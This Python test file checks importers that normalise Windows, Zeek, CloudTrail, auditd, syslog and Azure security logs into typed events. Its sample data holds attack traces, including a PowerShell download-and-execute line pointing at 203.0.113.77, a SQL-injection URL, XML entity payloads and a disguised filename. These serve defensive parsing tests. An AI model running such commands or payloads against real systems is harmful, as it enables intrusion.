"""Importers: what raw records of each shape become, and why others are left out."""

from __future__ import annotations

import gzip
from datetime import UTC, datetime
from itertools import chain
from pathlib import Path
from typing import Any, get_type_hints

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schema import EVENT_CLASSES, EVENT_TYPES, FIELDS_OF, Ip
from telemetry.importers import import_records, security, sysmon, windows_logs
from telemetry.importers.azure import convert_activity
from telemetry.importers.cloudtrail import convert_cloudtrail
from telemetry.importers.containers import FileError
from telemetry.importers.defender import TABLES, convert_defender
from telemetry.importers.entra import convert_audit
from telemetry.importers.events import DraftEvent, Imported, Skipped, draft_event, scope_of
from telemetry.importers.reading import BAD_LINE, MAX_LINE, read_records
from telemetry.importers.security import task_command
from telemetry.importers.text import convert_text
from telemetry.importers.unwrapping import NO_OBJECT
from telemetry.importers.values import (
    CLEANERS,
    clean_fields,
    clean_hex,
    clean_int,
    clean_ip,
    clean_text,
    timestamp,
)
from telemetry.importers.windows import EventMapping, WindowsRecord, convert
from telemetry.importers.zeek import LOGS, convert_zeek
from world import PRIVATE_NETWORKS

SAMPLES = Path(__file__).parent / "data" / "real_logs"


def imported(name: str) -> list[Imported]:
    return import_records(read_records(SAMPLES / name))


def fields_of(name: str, record: int) -> dict[str, Any]:
    result = imported(name)[record]
    assert isinstance(result, DraftEvent), result
    return {"event_type": result.event_type, **result.fields.model_dump(exclude_none=True)}


def reasons(name: str) -> dict[int, str]:
    return {result.record: result.reason for result in imported(name) if isinstance(result, Skipped)}


# ---------------------------------------------------------------- Windows
def test_a_sysmon_launch_keeps_every_fact_of_the_record():
    assert fields_of("macro_evtx.jsonl", 0) == {
        "event_type": "process",
        "activity": "launch",
        "process_path": "C:\\Program Files\\Office\\WINWORD.EXE",
        "process_cmd_line": '"WINWORD.EXE" /n invoice.docm',
        "process_pid": 4100,
        "process_uid": "A0000000-0000-0000-0000-000000000001",
        "process_integrity": "Medium",
        "process_hashes": "SHA256=00AA",
        "process_company": "Example Corp",
        "parent_path": "C:\\Windows\\explorer.exe",
        "parent_cmd_line": "explorer.exe",
        "device_hostname": "wks-07.quill.test",
        "actor_user": "QUILL\\ines.okafor",
        "session_uid": "0x51aa0",
    }


def test_the_year_1601_falls_back_to_the_sensors_own_time():
    times = [result.time for result in imported("macro_evtx.jsonl") if isinstance(result, DraftEvent)]

    assert times[0] == datetime(2031, 5, 6, 8, 0, 1, 250_000, UTC)
    assert times[1] == datetime(2031, 5, 6, 8, 0, 9, 500_000, UTC)  # the log's own time where it is whole


def test_an_event_id_may_be_an_object_and_a_connection_gets_its_scope():
    assert fields_of("macro_evtx.jsonl", 1)["process_pid"] == 4188
    assert fields_of("macro_evtx.jsonl", 2) == {
        "event_type": "net_conn",
        "activity": "open",
        "src_ip": "10.61.4.7",
        "src_port": 50112,
        "dst_ip": "203.0.113.77",
        "dst_port": 80,
        "direction": "outbound",
        "dst_scope": "external",
        "process_path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "device_hostname": "wks-07.quill.test",
        "actor_user": "QUILL\\ines.okafor",
    }


def test_declared_networks_decide_the_scope():
    records = list(read_records(SAMPLES / "macro_evtx.jsonl"))

    results = import_records(records, networks=("203.0.113.0/24",))

    assert isinstance(results[2], DraftEvent)
    assert results[2].fields.dst_scope == "internal"


def test_a_script_block_comes_on_one_line_with_the_account_that_ran_it():
    script = fields_of("macro_evtx.jsonl", 4)

    assert script["script_text"] == "$c = New-Object Net.WebClient IEX $c.DownloadString('http://203.0.113.77/a')"
    assert script["actor_user"] == "S-1-5-21-1-2-3-1190"


def test_what_has_no_mapping_is_left_out_with_a_reason():
    assert reasons("macro_evtx.jsonl") == {
        5: "Sysmon event 24: a clipboard change has no event type",
        6: "Sysmon event 255: an error of the sensor itself",
    }


def test_local_time_of_a_collector_is_brought_to_utc_and_gets_its_fraction():
    times = [result.time for result in imported("persistence_nxlog.jsonl") if isinstance(result, DraftEvent)]

    assert times[0] == datetime(2031, 5, 6, 8, 4, 0, 800_000, UTC)  # 10:04:01 local, UtcTime 08:04:00.800
    assert times[2] == datetime(2031, 5, 6, 8, 4, 4, tzinfo=UTC)  # no UtcTime: whole seconds


def test_an_overwritten_event_type_is_read_from_the_message_or_not_guessed():
    assert fields_of("persistence_nxlog.jsonl", 1)["activity"] == "key_create"
    assert reasons("persistence_nxlog.jsonl") == {
        2: "Sysmon event 12: its EventType was overwritten, so that making cannot be told from removing"
    }


def test_service_task_and_cleared_log_say_what_runs_and_who_did_it():
    service, task, cleared = (fields_of("persistence_nxlog.jsonl", record) for record in (3, 4, 5))

    assert (service["service_cmd_line"], service["start_type"]) == ("C:\\Users\\Public\\svcupd.exe", "auto start")
    assert (task["job_cmd_line"], task["run_as"]) == ("C:\\Users\\Public\\svcupd.exe -q", "S-1-5-18")
    assert (cleared["activity"], cleared["control_name"]) == ("log_clear", "Security log")
    assert (cleared["actor_user"], cleared["session_uid"]) == ("ines.okafor", "0x51AA0")


def test_both_winlogbeat_shapes_are_read():
    launch, account, group = (fields_of("accounts_winlogbeat.jsonl", record) for record in range(3))

    assert (launch["process_pid"], launch["process_integrity"]) == (0x1F0, "High")
    assert account["attributes"] == (
        "SamAccountName=helper; set: account disabled; set: password not required; set: normal account"
    )
    assert (group["activity"], group["group_name"], group["user_name"]) == ("member_add", "Administrators", "helper")


def test_a_failed_sign_in_says_why_and_names_a_plain_address():
    failure = fields_of("guessing_flat.jsonl", 0)

    assert (failure["activity"], failure["logon_type"]) == ("failure", 3)
    assert (failure["src_ip"], failure["status"]) == ("198.51.100.23", "0xc000006a")
    assert "actor_user" not in failure
    assert "session_uid" not in failure


def test_the_very_same_record_twice_is_a_duplicate_and_like_attempts_are_not():
    assert reasons("guessing_flat.jsonl") == {7: "duplicate of record 6"}


@pytest.mark.parametrize(
    ("raw", "provider"),
    [
        ({"EventID": 4688, "Channel": "Security", "NewProcessName": "C:\\a.exe"}, "process"),
        ({"EventID": 1102, "Channel": "SECURITY"}, "control_change"),
        ({"EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\a.exe"}, "process"),
        ({"EventID": 800, "Channel": "Windows PowerShell", "Message": "HostApplication=powershell"}, "script"),
    ],
)
def test_a_record_that_names_only_its_log_is_read_by_it(raw, provider):
    (result,) = import_records([raw])

    assert isinstance(result, DraftEvent)
    assert result.event_type == provider


def test_every_row_of_the_windows_tables_fills_its_fields():
    for family, table in windows_logs.PROVIDERS.values():
        for event_id, row in table.items():
            if isinstance(row, str):
                continue
            told = {
                name: "0x1" for names in row.fields.values() for name in ([names] if isinstance(names, str) else names)
            }
            told |= {"EventType": "CreateKey", "HostApplication": "x", "Data": "x"}
            record = WindowsRecord("", "", event_id, "host-1", told, None, "HostApplication=x", None, ["x"] * 6)
            assert isinstance(convert(record, table, family), DraftEvent), (family, event_id)


def test_the_tables_have_no_row_for_an_unknown_type():
    for _, table in windows_logs.PROVIDERS.values():
        assert {row.event_type for row in table.values() if isinstance(row, EventMapping)} <= set(EVENT_TYPES)


def test_every_event_type_is_made_by_some_importer():
    made = {
        row.event_type
        for _, table in windows_logs.PROVIDERS.values()
        for row in table.values()
        if isinstance(row, EventMapping)
    }

    assert made | {"http", "cloud_api"} == set(EVENT_TYPES)


@pytest.mark.parametrize(
    ("properties", "activity"),
    [("%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", "replication"), ("%%7684 {bf967a92-0de6-11d0}", "access")],
)
def test_a_replication_right_makes_a_directory_access_replication(properties, activity):
    record = WindowsRecord("", "", 4662, "dc-1", {"Properties": properties, "ObjectName": "DC=quill"}, None)

    draft = convert(record, security.TABLE, "Security")

    assert (draft.event_type, draft.activity) == ("directory", activity)


def test_a_kernel_registry_path_gets_its_common_name():
    told = {"ObjectName": "\\REGISTRY\\MACHINE\\SYSTEM\\Quill", "ObjectValueName": "Start", "NewValue": "4"}

    fields = convert(WindowsRecord("", "", 4657, "h", told, None), security.TABLE, "Security").fields

    assert (fields.activity, fields.reg_key_path, fields.reg_value_data) == ("set", "HKLM\\SYSTEM\\Quill\\Start", "4")


@pytest.mark.parametrize(
    ("signed", "status", "state"),
    [("true", "Valid", "signed"), ("true", "Revoked", "invalid"), ("false", "Unavailable", "unsigned")],
)
def test_the_signature_state_needs_both_values(signed, status, state):
    told = {"ImageLoaded": "C:\\x.dll", "Signed": signed, "SignatureStatus": status}

    draft = convert(WindowsRecord("", "", 7, "h", told, None), sysmon.TABLE, "Sysmon")

    assert draft.fields.signature_state == state


def test_a_removed_wmi_subscription_is_not_told_as_a_new_one():
    record = WindowsRecord("", "", 20, "h", {"Operation": "Deleted", "Destination": "x"}, None)

    assert convert(record, sysmon.TABLE, "Sysmon") == Skipped(
        "Sysmon event 20: a part of a WMI subscription is removed"
    )


@pytest.mark.parametrize(
    ("xml", "command"),
    [
        ("<Task><Actions><Exec><Command>a.exe</Command></Exec></Actions></Task>", "a.exe"),
        ("<Task><Actions><ComHandler><ClassId>{1}</ClassId></ComHandler></Actions></Task>", "{1}"),
        ('<!DOCTYPE t [<!ENTITY a "aaaa">]><Task><Command>&a;</Command></Task>', ""),
        ('<!DOCTYPE t SYSTEM "t.dtd"><Task><Command>a.exe</Command></Task>', ""),
        ("<Task><Command>", ""),
        (None, ""),
    ],
)
def test_task_commands_come_from_the_definition_and_entities_are_refused(xml, command):
    assert task_command(xml)[0] == command


# ---------------------------------------------------------------- other sources
def test_zeek_connections_of_both_spellings_have_ends_times_and_direction():
    first, name = fields_of("network_zeek.jsonl", 0), fields_of("network_zeek.jsonl", 12)

    assert (first["src_ip"], first["dst_port"], first["bytes_out"]) == ("10.61.4.9", 20, 0)
    assert (first["direction"], first["dst_scope"]) == ("lateral", "internal")
    assert "bytes_in" not in first
    assert (name["query_hostname"], name["answers"]) == ("files.quill.test", "10.61.5.8")
    assert name["src_ip"] == "10.61.4.9"
    assert timestamp(imported("network_zeek.jsonl")[0].time) == "2031-05-05T10:00:00.500000Z"


def test_zeek_requests_tickets_rpc_and_shares_are_typed():
    kinds = [
        (result.event_type, result.activity)
        for result in imported("network_zeek.jsonl")
        if isinstance(result, DraftEvent)
    ]

    assert kinds[12:] == [
        ("dns_query", "query"),
        ("net_conn", "tls_session"),
        ("http", "request"),
        ("kerberos", "tgs"),
        ("directory", "replication"),
        ("share", "access"),
        ("detection", "ids_notice"),
        ("file", "create"),
    ]
    assert fields_of("network_zeek.jsonl", 15)["url"] == "http://shop.quill.test/search?q=1%27%20or%201=1"
    assert fields_of("network_zeek.jsonl", 16)["ticket_encryption"] == "0x17"
    assert reasons("network_zeek.jsonl") == {
        14: "Zeek x509: a certificate of a session that ssl reports",
        21: "Zeek pe: the header of a program file that files reports",
    }


def test_cloudtrail_changes_are_typed_and_a_refused_change_is_a_call_with_its_error():
    kinds = [(result.event_type, result.activity) for result in imported("trail_cloudtrail.json")]

    assert kinds == [
        ("control_change", "trail_stop"),
        ("account", "key_create"),
        ("cloud_api", "call"),
        ("cloud_api", "call"),
        ("group", "policy_attach"),
        ("logon", "failure"),
    ]
    assert fields_of("trail_cloudtrail.json", 1)["user_name"] == "backup-bot"
    assert fields_of("trail_cloudtrail.json", 2)["api_error"] == "AccessDenied"
    assert fields_of("trail_cloudtrail.json", 4)["group_name"] == "arn:aws:iam::aws:policy/AdministratorAccess"


def test_audit_lines_of_one_serial_become_one_event_and_the_rest_are_its_parts():
    results = imported("linux_audit.jsonl")

    assert [
        (result.record, result.event_type, result.activity) for result in results if isinstance(result, DraftEvent)
    ] == [
        (2, "process", "launch"),
        (4, "process", "launch"),
        (6, "net_conn", "open"),
        (8, "logon", "failure"),
        (10, "control_change", "audit_policy"),
    ]
    assert fields_of("linux_audit.jsonl", 4)["process_cmd_line"] == "perl -e 'print \"hi there\"'"
    assert (
        fields_of("linux_audit.jsonl", 4)["parent_path"] == "/usr/bin/bash"
    )  # told by an earlier launch with that pid
    assert "parent_path" not in fields_of("linux_audit.jsonl", 2)
    assert (fields_of("linux_audit.jsonl", 6)["dst_ip"], fields_of("linux_audit.jsonl", 6)["dst_port"]) == (
        "203.0.113.5",
        443,
    )
    assert reasons("linux_audit.jsonl") == {
        0: "part of audit event 41: told by record 2",
        1: "part of audit event 41: names for the numbers of record 0",
        3: "part of audit event 42: told by record 4",
        5: "part of audit event 42: told by record 4",
        7: "part of audit event 43: told by record 6",
        9: "no mapping for auditd system call 56",
    }


def test_syslog_messages_that_are_known_become_events():
    failed, accepted, sudo, account = (fields_of("syslog.log", record) for record in range(4))

    assert (failed["activity"], failed["user_name"], failed["src_ip"]) == ("failure", "admin", "198.51.100.9")
    assert (accepted["activity"], accepted["auth_protocol"]) == ("success", "publickey")
    assert (sudo["activity"], sudo["actor_user"], sudo["process_cmd_line"]) == (
        "launch",
        "rota",
        "/usr/sbin/useradd helper",
    )
    assert (account["activity"], account["user_name"]) == ("create", "helper")
    assert imported("syslog.log")[2].time == datetime(2031, 5, 6, 6, 0, 9, 500_000, UTC)
    assert reasons("syslog.log") == {
        4: "no mapping for a syslog message of kernel",
        5: "a line of text that is neither auditd's nor syslog's",
    }


def test_azure_rows_are_typed_by_table_and_action():
    audit, ldap, launch, pods = (fields_of("azure_tables.jsonl", record) for record in (0, 1, 2, 4))

    assert (audit["api_operation"], audit["src_ip"]) == ("Add service principal credentials", "192.0.2.50")
    assert (audit["user_uid"], audit["user_agent"]) == ("ines.okafor@quill.test", "example/1")
    assert (ldap["event_type"], ldap["object_dn"], ldap["properties"]) == (
        "directory",
        "CN=x,DC=quill,DC=test",
        '["thumbnailPhoto"]',
    )
    assert (launch["process_path"], launch["parent_path"]) == (
        "C:\\Windows\\System32\\whoami.exe",
        "C:\\Windows\\System32\\cmd.exe",
    )
    assert (pods["api_operation"], pods["api_error"]) == ("create pods/exec", "403")
    assert reasons("azure_tables.jsonl") == {3: "no mapping for Defender action AntivirusScanCompleted"}


def test_a_table_in_csv_is_read_as_rows():
    failure, success = (fields_of("sign_ins.csv", record) for record in range(2))

    assert (failure["activity"], failure["status"], failure["src_ip"]) == ("failure", "50126", "203.0.113.80")
    assert success["activity"] == "success"


def test_a_shape_that_nobody_knows_is_left_out():
    assert import_records([{"hello": "world"}]) == [Skipped("record shape not recognised", 0)]


# ---------------------------------------------------------------- values
@pytest.mark.parametrize(
    ("value", "cleaned"),
    [
        ("a\r\n\t b", "a b"),
        ("evil\u202egpj.exe", "evil\ufffdgpj.exe"),
        ("zero\x00byte\x1b[31m", "zero\ufffdbyte\ufffd[31m"),
        ("half \ud800", "half \ufffd"),
        ("two  spaces", "two  spaces"),
        (7, "7"),
    ],
)
def test_text_is_brought_to_one_visible_line(value, cleaned):
    assert clean_text(value, 100) == cleaned


@pytest.mark.parametrize(("length", "cut"), [(512, False), (513, True), (100_000, True)])
def test_text_that_is_too_long_keeps_head_and_tail_and_says_what_is_missing(length, cut):
    text = "H" * (length - 1) + "T"

    cleaned = clean_text(text, 512)

    assert len(cleaned) <= 512
    assert cleaned.startswith("HHHH")
    assert cleaned.endswith("T")
    assert (f"[... {length - 464} characters left out ...]" in cleaned) is cut


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("::ffff:192.0.2.1", "192.0.2.1"),
        ("192.0.2.1:4433", "192.0.2.1"),
        ("[2001:db8::1]:443", "2001:db8::1"),
        ("fe80::1%12", "fe80::1"),
        ("LOCAL", None),
        ("host.example:80", None),
        ("1.2.3", None),
    ],
)
def test_addresses_are_read_without_ports_zones_and_prefixes(text, address):
    assert clean_ip(text) == address


@pytest.mark.parametrize(
    ("value", "number"), [("0x1f", 31), ("12", 12), (12.0, 12), ("1.5", None), ("x", None), (True, None), ("1e3", 1000)]
)
def test_whole_numbers_are_read_in_all_spellings(value, number):
    assert clean_int(value) == number


@pytest.mark.parametrize(
    ("value", "mask"), [("0x1FFFFF", "0x1fffff"), (16, "0x10"), ("%%1537", None), (2**64, None), (-1, None)]
)
def test_masks_are_hexadecimal_or_omitted(value, mask):
    assert clean_hex(value) == mask


def test_values_that_do_not_fit_their_field_are_omitted():
    values = {"dst_port": 70_000, "src_port": "80", "dst_ip": "nowhere", "direction": "sideways", "process_path": "-"}

    assert clean_fields("net_conn", "open", values) == {"activity": "open", "src_port": 80}


def test_what_the_schema_refuses_is_skipped_with_its_reason():
    assert draft_event("process", "fly", {}) == Skipped(
        "the schema refuses process.activity: Input should be 'launch' or 'terminate'"
    )


def test_a_node_of_an_audit_line_is_cleaned_as_any_host_name():
    (result,) = convert_text([(3, "node=w\u202eeb type=SERVICE_STOP msg=audit(1936080000.500:7): unit=rsyslog")])

    assert (result.fields.device_hostname, result.fields.service_name, result.record) == ("w\ufffdeb", "rsyslog", 3)


def test_a_field_that_is_declared_as_an_address_gets_a_plain_address():
    declared = {
        (event_type, name)
        for event_type, fields in FIELDS_OF.items()
        for name, kind in get_type_hints(fields, include_extras=True).items()
        if kind == Ip | None
    }

    assert len(declared) == 17
    assert {CLEANERS[event_type][name]("[::ffff:10.61.4.7%2]:80") for event_type, name in declared} == {"10.61.4.7"}


def test_the_cleaners_know_every_field_of_the_schema():
    for event_type, event_class in EVENT_CLASSES.items():
        names = set(event_class.model_fields["fields"].annotation.model_fields) - {"activity"}
        assert set(CLEANERS[event_type]) == names


@pytest.mark.parametrize(
    ("ip", "scope"),
    [
        ("10.1.2.3", "internal"),
        ("172.32.0.1", "external"),
        ("172.31.0.1", "internal"),
        ("239.255.255.250", "internal"),
        ("255.255.255.255", "internal"),
        ("ff02::fb", "internal"),
        ("2001:db8::1", "external"),
        ("8.8.8.8", "external"),
    ],
)
def test_scope_is_internal_for_our_networks_and_for_what_never_leaves_one(ip, scope):
    assert scope_of(ip, PRIVATE_NETWORKS) == scope


# ---------------------------------------------------------------- anything at all
_NAMES = st.sampled_from(
    [
        "Event",
        "System",
        "EventData",
        "EventID",
        "Channel",
        "Provider",
        "#attributes",
        "#text",
        "winlog",
        "event_data",
        "log_name",
        "event_id",
        "userIdentity",
        "eventSource",
        "eventName",
        "eventTime",
        "requestParameters",
        "responseElements",
        "ts",
        "_path",
        "id.orig_h",
        "raw",
        "ActionType",
        "Timestamp",
        "OperationName",
        "TimeGenerated",
        "InitiatedBy",
        "AdditionalDetails",
        "verb",
        "objectRef",
        "user",
        "UtcTime",
        "SourceName",
        "Message",
        "Data",
    ]
)
_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text()
    | st.sampled_from(["Security", "1", "conn", "4624"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_NAMES, inner, max_size=5),
    max_leaves=12,
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.dictionaries(_NAMES, _VALUES, max_size=8), max_size=6))
def test_no_record_is_lost_and_none_raises_whatever_it_holds(records):
    results = import_records(records)

    assert len(results) >= len(records)  # known records within one take its place
    assert [result.record for result in results] == list(range(len(results)))
    assert all(isinstance(result, DraftEvent) or result.reason for result in results)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from([convert_zeek, convert_cloudtrail, convert_defender, convert_activity, convert_audit]), st.data()
)
def test_no_value_in_a_known_shape_raises(convert_one, data):
    known = {
        "eventSource": "iam.amazonaws.com",
        "eventName": "CreateUser",
        "ActionType": "LdapSearch",
        "OperationName": "x",
    }
    paths = st.sampled_from([*LOGS, "other"])
    names = st.sampled_from(
        [
            "userIdentity",
            "requestParameters",
            "responseElements",
            "AdditionalFields",
            "InitiatedBy",
            "id.orig_h",
            "client",
            "ts",
        ]
    )
    raw = {**known, "_path": data.draw(paths), **data.draw(st.dictionaries(names, _VALUES, max_size=5))}
    raw["ActionType"] = data.draw(st.sampled_from([*chain.from_iterable(TABLES.values()), "other"]))

    convert_one(raw)


@given(st.lists(st.text(), max_size=5))
def test_no_line_of_text_raises_or_is_lost(lines):
    results = convert_text(enumerate(lines))

    assert [result.record for result in results] == list(range(len(lines)))


# ---------------------------------------------------------------- files
def test_a_bad_line_is_a_record_that_is_left_out(tmp_path):
    path = tmp_path / "mixed.jsonl"
    path.write_text('{"raw": "x"}\nnot json\n\n[1]\n' + "[" * 50_000 + "\n")

    assert list(read_records(path)) == [{"raw": "x"}, Skipped(BAD_LINE), Skipped(NO_OBJECT), Skipped(BAD_LINE)]


def test_a_line_without_end_does_not_fill_the_memory(tmp_path):
    path = tmp_path / "long.jsonl"
    path.write_text('{"raw": "' + "x" * (2 * MAX_LINE) + '"}\n{"raw": "y"}\n')

    records = list(read_records(path))

    assert isinstance(records[0], Skipped)
    assert records[1:] == [{"raw": "y"}]


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("empty.jsonl", b"", "the file is empty"),
        ("cut.jsonl.gz", b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "EOFError"),
        ("noise.jsonl.gz", b"\x1f\x8b" + b"\xff" * 40, "BadGzipFile"),
        ("picture.jsonl", b"\x89PNG\r\n\x1a\n\x00\x01\x02", "it is a picture"),
    ],
)
def test_a_file_that_is_no_recording_is_refused_with_a_sentence(tmp_path, name, content, says):
    path = tmp_path / name
    path.write_bytes(content)

    with pytest.raises(FileError, match=says):
        list(read_records(path))


@pytest.mark.parametrize("pack", [bytes, gzip.compress])
def test_a_byte_that_is_no_text_does_not_lose_its_line(tmp_path, pack):
    path = tmp_path / "latin.jsonl"
    path.write_bytes(pack(b'{"raw": "caf\xe9"}\n'))

    assert list(read_records(path)) == [{"raw": "café"}]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
@pytest.mark.parametrize("text", ['[{"raw": "é"}]', '{"value": [{"raw": "é"}]}', '{"raw": "é"}', '{"raw":\n"é"}'])
def test_json_documents_are_read_in_all_their_forms(tmp_path, encoding, text):
    path = tmp_path / "document.json"
    path.write_text(text, encoding=encoding)

    assert list(read_records(path)) == [{"raw": "é"}]
